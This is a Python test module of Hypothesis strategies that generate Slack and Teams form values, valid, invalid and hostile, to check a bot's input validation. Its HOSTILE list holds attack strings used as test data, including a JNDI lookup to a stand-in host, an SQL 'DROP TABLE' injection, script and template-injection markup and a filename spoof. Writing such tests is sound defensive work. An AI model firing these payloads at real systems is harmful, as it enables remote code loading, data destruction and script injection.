"""Hypothesis strategies for every field of the two flows, as Slack and Teams send them.

Each drawn ``Field`` carries the value twice (the element Slack puts in ``view.state`` and
the value Teams merges into an ``Action.Execute``'s data) and a verdict:

* ``VALID``: a person could have given it; the page must accept it and store ``stored``;
* ``INVALID``: the page must refuse it with an error on this field (naming ``limit`` for
  text over its limit): a wrong type, text over the limit, an unknown option, a malformed
  person or date, files the bot never received, or a required answer missing;
* ``ANY``: hostile text (control characters, lone surrogates, markup); accepted or refused,
  it must never break anything, and if stored it is stored clean.

The verdicts are worked out from the flow's own data (a step's kind, options, whether it is
required, its limit), the way a tester reading the policy pack would.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

from bot.flows.spec import LIST_KINDS, MAX_PEOPLE, Step, StepKind

VALID, INVALID, ANY = "valid", "invalid", "any"
MISSING: Any = object()

# Text a person types: letters, digits, punctuation and spaces, never only spaces.
WORDS = st.text(
    alphabet=st.characters(categories=("L", "Nd", "P", "Zs")), min_size=1, max_size=120
).filter(lambda text: text.strip())
HOSTILE = [
    "\x00",
    "before\x00after",
    "\ud800",
    "lone \udfff surrogate",
    "\u202egnp.exe",
    "<!channel> @here <@U123> <!subteam^S1>",
    "[click](http://evil.example) <https://evil.example|here>",
    "\U0001f642" * 40,
    "\t\n\r",
    "\u200b\u200d\ufeff",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE cases; --",
    "{{7*7}} <script>alert(1)</script>",
    "\\ \" ' `",
]
# Values of the wrong type where text (or a list of text) is asked for; never empty, so the
# refusal is for the type, not a missing answer.
WRONG = st.one_of(
    st.integers().filter(bool),
    st.floats(allow_nan=False, allow_infinity=False).filter(bool),
    st.just(True),
    st.lists(st.integers(), min_size=1, max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), min_size=1, max_size=3),
)
SLACK_ID = st.from_regex(r"U[A-Z0-9]{8,10}", fullmatch=True)
TEAMS_ID = st.uuids().map(str)
NOT_A_PERSON = st.sampled_from(["<@U123>", "U1 U2", "üser", "x" * 201, "a\tb", "@here now"])
OPTION_LIKE = st.text(alphabet="abcdefghijklmnopqrstuvwxyz_0123456789-", min_size=1, max_size=30)


@dataclass(frozen=True)
class Field:
    """One field's value on both platforms, and what the page must do with it."""

    verdict: str
    slack: Any
    teams: Any
    stored: Any = None
    limit: int | None = None
    teams_stored: Any = MISSING  # when Teams keeps something else (a person's AAD id)

    def kept(self, teams: bool) -> Any:
        """What the draft keeps when the page is accepted."""
        return self.teams_stored if teams and self.teams_stored is not MISSING else self.stored


Kinds = tuple[st.SearchStrategy[Field], st.SearchStrategy[Field]]


def _kinds(step: Step, huge: int) -> Kinds:
    """(what a person could give, what they could not) for the step's kind."""
    kinds = {
        StepKind.TEXT: _text,
        StepKind.LONG_TEXT: _text,
        StepKind.CHOICE: _choice,
        StepKind.YES_NO: _choice,
        StepKind.MULTI_CHOICE: _multi,
        StepKind.PEOPLE: _people,
        StepKind.DATE: _date,
        StepKind.CONFIRM: _confirm,
        StepKind.FILES: _files,
    }
    return kinds[step.kind](step, huge)


def valid_values(step: Step) -> st.SearchStrategy[Field]:
    """Only what a person could give for ``step``."""
    return _kinds(step, 0)[0]


def field_values(step: Step, *, huge: int) -> st.SearchStrategy[Field]:
    """Every kind of value for ``step``; ``huge`` is the longest oversize text drawn."""
    valid, other = _kinds(step, huge)
    return st.one_of(valid, other, _wrong(step), _missing(step))


@st.composite
def page_values(draw: st.DrawFn, steps: tuple[Step, ...], huge: int) -> dict[str, Field]:
    """Every field of a page: up to three of them hostile, the others what a person gives
    (so pages that must be accepted are drawn as often as pages that must be refused)."""
    hostile = draw(st.sets(st.sampled_from([s.id for s in steps]), max_size=min(3, len(steps))))
    return {
        s.id: draw(field_values(s, huge=huge) if s.id in hostile else valid_values(s), label=s.id)
        for s in steps
    }


def _missing(step: Step) -> st.SearchStrategy[Field]:
    if step.kind is StepKind.FILES:
        return st.just(Field(VALID, MISSING, MISSING, stored=[]))
    empty: Any = [] if step.kind in LIST_KINDS else ""
    verdict = INVALID if step.required else VALID
    return st.just(Field(verdict, MISSING, MISSING, stored=empty))


def _wrong(step: Step) -> st.SearchStrategy[Field]:
    """A value of the wrong type, in every place a platform's payload can carry one."""
    slack = {
        StepKind.TEXT: lambda w: {"type": "plain_text_input", "value": w},
        StepKind.LONG_TEXT: lambda w: {"type": "plain_text_input", "value": w},
        # An option that is not an object; an option whose value is not text; a list of those.
        StepKind.CHOICE: lambda w: {"type": "radio_buttons", "selected_option": [w]},
        StepKind.YES_NO: lambda w: {"type": "radio_buttons", "selected_option": {"value": w}},
        StepKind.MULTI_CHOICE: lambda w: {"type": "checkboxes", "selected_options": [{"value": w}]},
        StepKind.PEOPLE: lambda w: {"type": "users_select", "selected_user": w},
        StepKind.DATE: lambda w: {"type": "datepicker", "selected_date": w},
        StepKind.CONFIRM: lambda w: {"type": "checkboxes", "selected_options": w},
        StepKind.FILES: lambda w: {"type": "file_input", "files": w},
    }[step.kind]
    return WRONG.map(lambda w: Field(INVALID, slack(w), w))


def _text(step: Step, huge: int) -> Kinds:
    limit = step.limit
    assert limit is not None, f"{step.id} has no server-side limit"

    def element(text: str) -> dict[str, Any]:
        return {"type": "plain_text_input", "value": text}

    valid = WORDS.map(lambda t: t[:limit]).filter(str.strip)
    if step.id == "email":
        valid = st.from_regex(r"[a-z]{1,12}@[a-z]{1,12}\.org", fullmatch=True)
    over = st.tuples(
        st.sampled_from(["x", "é", "字", "\U0001f642", "ab "]),
        st.sampled_from([limit + 1, limit + 1000]),
    )
    oversize = st.one_of(over, st.just(("x", max(huge, limit + 1)))).map(
        lambda drawn: (drawn[0] * drawn[1])[: drawn[1]].strip() + "z" * 2
    )
    hostile = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=200))
    return (
        valid.map(lambda t: Field(VALID, element(t), t, stored=t.strip())),
        st.one_of(
            oversize.map(lambda t: Field(INVALID, element(t), t, limit=limit)),
            hostile.map(lambda t: Field(ANY, element(t), t)),
        ),
    )


def _choice(step: Step, huge: int) -> Kinds:
    options = [value for value, _ in step.choices]

    def element(value: str) -> dict[str, Any]:
        option = {"text": {"type": "plain_text", "text": value}, "value": value}
        return {"type": "radio_buttons", "selected_option": option}

    unknown = OPTION_LIKE.filter(lambda v: v not in options)
    return (
        st.sampled_from(options).map(lambda v: Field(VALID, element(v), v, stored=v)),
        unknown.map(lambda v: Field(INVALID, element(v), v)),
    )


def _multi(step: Step, huge: int) -> Kinds:
    options = [value for value, _ in step.choices]

    def field(verdict: str, chosen: list[str]) -> Field:
        element = {"type": "checkboxes", "selected_options": [{"value": v} for v in chosen]}
        return Field(verdict, element, ",".join(chosen), stored=list(dict.fromkeys(chosen)))

    some = st.lists(st.sampled_from(options), min_size=1, max_size=len(options))
    unknown = OPTION_LIKE.filter(lambda v: v not in options)
    return (
        some.map(lambda chosen: field(VALID, chosen)),
        st.tuples(some, unknown).map(lambda drawn: field(INVALID, [*drawn[0], drawn[1]])),
    )


def _people(step: Step, huge: int) -> Kinds:
    def one(verdict: str, slack_user: str, teams_user: str) -> Field:
        element = {"type": "users_select", "selected_user": slack_user}
        return Field(verdict, element, teams_user, [slack_user], teams_stored=[teams_user])

    too_many = st.lists(TEAMS_ID, min_size=MAX_PEOPLE + 1, max_size=MAX_PEOPLE + 5, unique=True)
    return (
        st.tuples(SLACK_ID, TEAMS_ID).map(lambda ids: one(VALID, *ids)),
        st.one_of(
            NOT_A_PERSON.map(lambda junk: one(INVALID, junk, junk)),
            too_many.map(
                lambda ids: Field(
                    INVALID, {"type": "multi_users_select", "selected_users": ids}, ",".join(ids)
                )
            ),
        ),
    )


def _date(step: Step, huge: int) -> Kinds:
    def element(value: str) -> dict[str, Any]:
        return {"type": "datepicker", "selected_date": value}

    past = st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date.today()).map(str)
    future = st.dates(
        min_value=dt.date.today() + dt.timedelta(days=2), max_value=dt.date(2999, 12, 31)
    ).map(str)
    junk = st.one_of(
        st.sampled_from(["2025-13-01", "2025-02-30", "yesterday", "20250101", "2025-W01-1"]),
        OPTION_LIKE,
    )
    return (
        past.map(lambda d: Field(VALID, element(d), d, stored=d)),
        st.one_of(future, junk).map(lambda d: Field(INVALID, element(d), d)),
    )


def _confirm(step: Step, huge: int) -> Kinds:
    def element(values: list[str]) -> dict[str, Any]:
        return {"type": "checkboxes", "selected_options": [{"value": v} for v in values]}

    refused = st.sampled_from(["maybe", "no", "false", "nope"])
    return (
        st.just(Field(VALID, element(["yes"]), "yes", stored="yes")),
        refused.map(lambda v: Field(INVALID, element([v]), v)),
    )


def _files(step: Step, huge: int) -> Kinds:
    """Evidence arrives as files the bot fetched itself; a page cannot name files instead."""
    forged = st.lists(OPTION_LIKE, min_size=1, max_size=3)
    malformed = st.one_of(st.just("file"), st.lists(st.integers(), min_size=1, max_size=2))
    return (
        st.just(Field(VALID, {"type": "file_input", "files": []}, "", stored=[])),
        st.tuples(forged, malformed).map(
            lambda drawn: Field(INVALID, {"type": "file_input", "files": drawn[1]}, drawn[0])
        ),
    )
